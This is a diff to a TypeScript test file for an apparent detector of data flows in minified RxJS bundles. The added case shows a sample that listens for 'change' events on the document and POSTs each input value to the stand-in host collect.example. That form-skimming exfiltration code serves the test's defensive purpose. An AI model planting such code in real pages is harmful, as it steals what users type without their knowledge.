@@ -5,7 +5,7 @@ import { flowsOf } from './flowsOf.ts';
 
 /** RxJS as minifiers leave it: only `pipe` and `subscribe` keep their names. */
 const STREAM =
-  'import { z, q, r } from "rx"; const send = (body) => fetch("https://collect.example/", { method: "POST", body });';
+  'import { z, q, r, fromEvent, filter } from "rx"; const send = (body) => fetch("https://collect.example/", { method: "POST", body });';
 
 const typed = async (content: string): Promise<number> =>
   (await factsOf(sample({ content: `${STREAM} function m(t, n) { return z(t, n); } ${content}` })))
@@ -21,6 +21,10 @@ describe('a stream of events in a bundle', () => {
     [
       'made into what was typed',
       'm(document, "change").pipe(r((e) => e.target.value)).subscribe((text) => send(text));',
+    ],
+    [
+      'filtered by what it says of itself',
+      'fromEvent(document, "change").pipe(filter((e) => e.isTrusted)).subscribe((e) => send(e.target.value));',
     ],
     ['heard directly', 'm(document, "change").subscribe((e) => send(e.target.value));'],
   ])('is heard where it is %s', async (_, content) => expect(await typed(content)).toBeGreaterThan(0));
